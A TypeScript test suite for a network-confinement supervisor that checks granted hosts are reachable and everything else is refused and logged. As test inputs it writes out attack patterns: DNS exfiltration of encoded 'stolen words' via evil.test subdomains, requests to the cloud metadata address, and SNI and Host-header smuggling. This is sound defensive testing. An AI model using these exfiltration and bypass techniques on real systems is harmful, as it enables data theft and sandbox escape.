// What a confined server reaches when hosts were granted to it, and that all else stays out of reach and on record.
import { spawnSync } from 'node:child_process'
import { copyFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import { createServer as createTlsServer } from 'node:https'
import { connect, type AddressInfo, type Server as TcpServer } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Attempt } from '../../src/core/egress/attempt.ts'
import { NO_GRANTS, type NetGrant } from '../../src/core/model/grants.ts'
import { CALLERS, countOf, setStage, type Stage } from '../confine/stage.ts'
import { certificateFor } from './certificate.ts'

const HERE = '127.0.0.1'
const isThere = (program: string): boolean => spawnSync(program, ['--version']).error === undefined

describe.each(CALLERS)('started by %s', (caller) => {
  let stage: Stage
  let client: string
  let ca: string
  const served: string[] = []
  const { key, cert } = certificateFor(['api.granted.test', 'other.granted.test'])
  const serve = (request: IncomingMessage): string => {
    served.push(`${request.headers.host}${request.url}`)
    return `for ${String(request.headers.host).split(':')[0]}`
  }
  const plain: Server = createServer((request, response) => response.end(serve(request)))
  const secure = createTlsServer({ key, cert }, (request, response) => response.end(serve(request)))
  const portOf = (server: TcpServer): number => (server.address() as AddressInfo).port

  beforeAll(async () => {
    stage = setStage(caller)
    client = stage.put('server/client.mjs', '')
    copyFileSync(join(import.meta.dirname, 'client.mjs'), client)
    ca = stage.put('server/ca.pem', cert)
    for (const server of [plain, secure]) await new Promise<void>((resolve) => server.listen(0, HERE, resolve))
  })
  afterAll(() => {
    stage.clear()
    plain.close()
    secure.close()
  })

  /** What the client said of each try, and the attempts as the supervisor was told of them. */
  const trying = async (
    tries: readonly (readonly unknown[])[],
    net: readonly NetGrant[],
    names: Record<string, string[]> = {},
  ): Promise<{ said: unknown[]; attempts: readonly Attempt[] }> => {
    const told = await stage.start({
      names,
      request: stage.request({
        argv: [stage.node, client, JSON.stringify(tries)],
        grants: { ...NO_GRANTS, net },
        env: { NODE_EXTRA_CA_CERTS: ca },
      }),
    }).told
    if (told.stdout === undefined) throw new Error(`not launched: ${JSON.stringify(told)}`)
    return { said: JSON.parse(told.stdout) as unknown[], attempts: told.attempts! }
  }
  const granted = (host: string, server: TcpServer, kind: NetGrant['kind']): NetGrant => ({
    ...{ host, port: portOf(server), kind, address: HERE },
  })
  const denials = (attempts: readonly Attempt[]): string[] =>
    attempts.filter(({ verdict }) => verdict === 'deny').map(({ host, reason }) => `${host}: ${reason}`)

  test('a granted host is reached end to end, and its bytes are told', async () => {
    const [secured, bare] = [granted('api.granted.test', secure, 'tls'), granted('plain.granted.test', plain, 'http')]
    const { said, attempts } = await trying(
      [
        ['fetch', `https://api.granted.test:${secured.port}/`],
        ['fetch', `http://plain.granted.test:${bare.port}/`],
      ],
      [secured, bare],
    )
    expect(said).toEqual(['for api.granted.test', 'for plain.granted.test'])
    expect(attempts.map(({ host, verdict }) => `${verdict} ${host}`).toSorted()).toEqual([
      'allow api.granted.test',
      'allow plain.granted.test',
      'closed api.granted.test',
      'closed plain.granted.test',
    ])
    for (const { up, down } of attempts.filter(({ verdict }) => verdict === 'closed')) {
      expect(Math.min(up, down)).toBeGreaterThan(100)
    }
  })

  test('other programs reach it too, and nothing else', async () => {
    const bare = granted('plain.granted.test', plain, 'http')
    const python = (url: string) => [
      'program',
      'python3',
      '-c',
      `import urllib.request as u; print(u.urlopen('${url}').read().decode())`,
    ]
    const programs = [
      ...(isThere('/usr/bin/curl') ? [(url: string) => ['program', 'curl', '-sS', '--max-time', '5', url]] : []),
      ...(isThere('/usr/bin/python3') ? [python] : []),
    ]
    const { said, attempts } = await trying(
      programs.flatMap((program) => [
        program(`http://plain.granted.test:${bare.port}/`),
        program(`http://evil.test:${bare.port}/`),
      ]),
      [bare],
    )
    for (const [i, words] of said.entries())
      expect(words).toMatch(i % 2 === 0 ? /^for plain\.granted\.test\n?$/ : /^exit/)
    expect(denials(attempts).filter((line) => !line.startsWith('evil.test: this name is not granted'))).toEqual([])
  })

  test('names that are not granted do not resolve, no query leaves, and each is told with its labels', async () => {
    const secret = Buffer.from('stolen words').toString('base64url').toLowerCase()
    const { said, attempts } = await trying(
      [
        ['lookup', `${secret}.evil.test`],
        ['resolve', `${secret}.evil.test`, 'TXT'],
        ['elsewhere', '8.8.8.8', `${secret}.evil.test`],
        ['lookup', `${secret}.api.granted.test`],
        ['lookup', 'api.granted.test'],
        ['resolve', 'api.granted.test', 'AAAA'],
        ['resolve', 'api.granted.test', 'TXT'],
      ],
      [granted('api.granted.test', plain, 'http')],
    )
    expect(said.slice(0, 4)).toEqual([
      'refused ENOTFOUND',
      'refused ENOTFOUND',
      expect.stringMatching(/^refused (ECONNREFUSED|ETIMEOUT)$/),
      'refused ENOTFOUND',
    ])
    expect(said[4]).toEqual(['198.18.0.1'])
    expect(said.slice(5)).toEqual(['refused ENODATA', 'refused ENODATA'])
    const told = denials(attempts)
    expect(told).toContain(`${secret}.evil.test: this name is not granted`)
    expect(told).toContain(`${secret}.api.granted.test: this name is not granted`)
    // Asked elsewhere, it never came to be a lookup of ours: there is no way there.
    expect(new Set(told)).toHaveProperty('size', 2)
  })

  test('addresses and ports that are not granted are out of reach, though they are live outside', async () => {
    const reached = await new Promise((resolve) => {
      const socket = connect(portOf(secure), HERE, () => resolve(socket.destroy() && 'reached'))
    })
    expect(reached).toBe('reached')
    const [host, { port }] = ['api.granted.test', granted('api.granted.test', plain, 'http')]
    const { said, attempts } = await trying(
      [
        ['tcp', HERE, portOf(secure), 'x'],
        ['tcp', '1.1.1.1', port, 'x'],
        ['tcp', '169.254.169.254', 80, 'x'],
        ['tcp', '::1', portOf(secure), 'x'],
        ['tcp', host, portOf(secure), 'x'],
        ['tcp', HERE, port, 'x'],
        ['tcp', '198.18.77.77', port, 'x'],
        ['tcp', 'two.granted.test', port, 'x'],
      ],
      [granted(host, plain, 'http'), { host: 'two.granted.test', port: 1, kind: 'tcp' }],
    )
    expect(said.slice(0, 5)).toEqual([
      'refused ECONNREFUSED',
      'refused ENETUNREACH',
      'refused ENETUNREACH',
      expect.stringMatching(/^refused (ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL)$/),
      'refused ECONNREFUSED',
    ])
    expect(said.slice(5)).toEqual(['refused ECONNRESET', 'refused ECONNRESET', 'refused ECONNRESET'])
    expect(denials(attempts)).toEqual([
      '127.0.0.1: no granted name has this address',
      '198.18.77.77: no granted name has this address',
      'two.granted.test: this port is not granted',
    ])
  })

  test('a connection to a granted host must ask for that host', async () => {
    const [secured, bare] = [granted('api.granted.test', secure, 'tls'), granted('plain.granted.test', plain, 'http')]
    const at = ['api.granted.test', secured.port] as const
    const ask = (path: string, host: string) => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`
    served.length = 0
    const { said, attempts } = await trying(
      [
        ['tls', ...at, 'api.granted.test'],
        ['tls', ...at, 'evil.test'],
        ['tls', ...at, ''],
        ['tcp', ...at, 'GET / HTTP/1.1\r\n\r\n'],
        ['tcp', 'plain.granted.test', bare.port, ask('/first', 'plain.granted.test'), ask('/second', 'evil.test')],
        ['fetch', `http://plain.granted.test:${bare.port}/`, { method: 'POST', body: 'x' }],
      ],
      [secured, { ...bare, methods: ['GET'] }],
    )
    expect(said[0]).toMatch(/^HTTP\/1\.1/)
    expect(said.slice(1, 4)).toEqual(Array(3).fill('refused ECONNRESET'))
    expect(denials(attempts)).toEqual([
      'api.granted.test: the TLS hello names another host: evil.test',
      'api.granted.test: the TLS hello names no host',
      'api.granted.test: not TLS: it does not begin with TLS',
      'plain.granted.test: the request is for another Host: evil.test',
      'plain.granted.test: the method POST is not granted',
    ])
    expect(served.filter((line) => line.includes('evil') || line.includes('second'))).toEqual([])
  })

  test('a granted name that leads to a private address is refused, unless that address was granted', async () => {
    const port = portOf(plain)
    const host = 'turned.granted.test'
    const net: NetGrant[] = [{ host, port, kind: 'http' }]
    for (const answers of [[HERE], ['169.254.169.254'], ['8.8.8.8', '10.0.0.1'], ['::ffff:127.0.0.1'], []]) {
      const { said, attempts } = await trying([['fetch', `http://${host}:${port}/`]], net, { [host]: answers })
      expect(said).toEqual([expect.stringMatching(/^refused (UND_ERR_SOCKET|ECONNRESET)$/)])
      expect(denials(attempts)).toEqual([expect.stringMatching(/: the name (leads to .* not public|has no address)/)])
    }
  })

  test('where the network would not be its own, nothing starts', async () => {
    const marker = `sallyport-test-${process.pid}-shared`
    const told = await stage.start({
      sabotage: 'no network of its own for granted hosts',
      request: stage.request({
        argv: ['/usr/bin/bash', '-c', 'sleep 60', marker],
        grants: { ...NO_GRANTS, net: [granted('api.granted.test', plain, 'http')] },
      }),
    }).told
    expect(told.failed).toMatchObject({
      code: 'confinement-unproven',
      message: expect.stringContaining('live loopback listener') as string,
    })
    expect(countOf(marker)).toBe(0)
  })

  test('kill -9 of the supervisor leaves nothing, also with granted hosts', async () => {
    const marker = `sallyport-test-${process.pid}-${caller[0]}-reaching`
    const stubborn = 'trap "" TERM HUP INT; while :; do sleep 0.2; done'
    const daemon = `(setsid bash -c '${stubborn}' "$0" </dev/null >/dev/null 2>&1 &); read; exit 3`
    const run = stage.start({
      names: {},
      request: stage.request({
        argv: ['/usr/bin/bash', '-c', daemon, marker],
        grants: { ...NO_GRANTS, net: [granted('api.granted.test', plain, 'http')] },
      }),
    })
    await run.launched
    expect(countOf(marker)).toBeGreaterThan(0)
    process.kill((await run.starting)!, 'SIGKILL')
    await expect.poll(() => countOf(marker), { timeout: 1000 }).toBe(0)
  })

  test('without granted hosts nothing changes: no name service, no route', async () => {
    const tries = [
      ['lookup', 'api.granted.test'],
      ['tcp', '198.18.0.1', 443, 'x'],
      ['tcp', HERE, 53, 'x'],
    ]
    const { stdout, launched } = await stage.start({
      request: stage.request({ argv: [stage.node, client, JSON.stringify(tries)] }),
    }).told
    expect(JSON.parse(stdout!)).toEqual([
      expect.stringMatching(/^refused (EAI_AGAIN|ENOTFOUND)$/),
      'refused ENETUNREACH',
      'refused ECONNREFUSED',
    ])
    expect(launched!.proofs.filter((proof) => proof.includes('granted'))).toEqual([])
  })
})
